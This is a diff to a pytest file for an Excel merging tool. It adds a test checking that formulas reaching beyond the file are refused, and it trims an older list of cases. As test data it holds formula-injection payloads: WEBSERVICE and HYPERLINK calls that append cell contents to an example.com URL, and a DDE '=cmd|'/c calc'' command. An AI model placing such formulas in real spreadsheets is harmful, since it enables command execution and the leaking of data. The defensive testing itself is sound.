@@ -396,6 +396,34 @@ def test_an_added_sheet_is_copied() -> None:
     assert (sheet["A7"].value, sheet["A7"].data_type, sheet["A7"].quotePrefix) == ("=1+1", "s", True)
 
 
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=WEBSERVICE("https://example.com/?"&B1)',
+        '=IMAGE("https://example.com/x.png")',
+        '=HYPERLINK("https://example.com/?"&B1,"more")',
+        "=cmd|'/c calc'!A1",
+        '=IF(B1,IMPORTXML("https://example.com","//a"),1)',
+    ],
+)
+def test_a_formula_that_reaches_beyond_the_file_is_refused_by_its_cell(formula: str) -> None:
+    """Also where nothing new is generated, and the edited file would stay as it is."""
+
+    def reach_out(book: Workbook) -> None:
+        book.create_sheet("Mine")["B2"] = formula
+
+    mine = edited(then("L-03"), reach_out)
+    for current in (then("L-03"), now("L-03")):
+        with pytest.raises(ProblemsFound) as raised:
+            merge_excel(then("L-03"), mine, current, A_YEAR_LATER)
+        (problem,) = raised.value.problems
+        assert problem.where.endswith("sheet Mine, cell B2")
+    # positive control: the formula is there, and a plain one passes
+    assert load_workbook(io.BytesIO(mine))["Mine"]["B2"].value == formula
+    plain = edited(then("L-03"), lambda book: book.create_sheet("Mine").__setitem__("B2", "=1+1"))
+    assert merge_excel(then("L-03"), plain, then("L-03"), A_YEAR_LATER).data == plain
+
+
 def test_a_renamed_sheet_is_known_by_what_stands_on_it() -> None:
     """It keeps its new name, and its entries."""
 
@@ -434,10 +462,7 @@ def formula(text: str) -> Callable[[Workbook], object]:
     [
         (with_chart, "chart"),
         (formula("=1+1"), "formula"),
-        (formula('=HYPERLINK("https://x.example","x")'), "formula"),
-        (lambda book: book.create_sheet("N").__setitem__("A1", '=WEBSERVICE("https://x.example")'), "more than calculate"),
         (lambda book: book.create_sheet("N").__setitem__("A1", '=INDIRECT("A"&1)'), "more than calculate"),
-        (lambda book: book.create_sheet("N").__setitem__("A1", "=cmd|'/C calc'!A0"), "more than calculate"),
         (lambda book: book.create_sheet("N").__setitem__("A1", "=[1]Other!A1"), "more than calculate"),
         (lambda book: book.create_sheet("N").__setitem__("A1", "=Gone!A1"), "more than calculate"),
         (lambda book: book.defined_names.add(DefinedName("Mine", attr_text="Log!$A$1")), "names cells"),
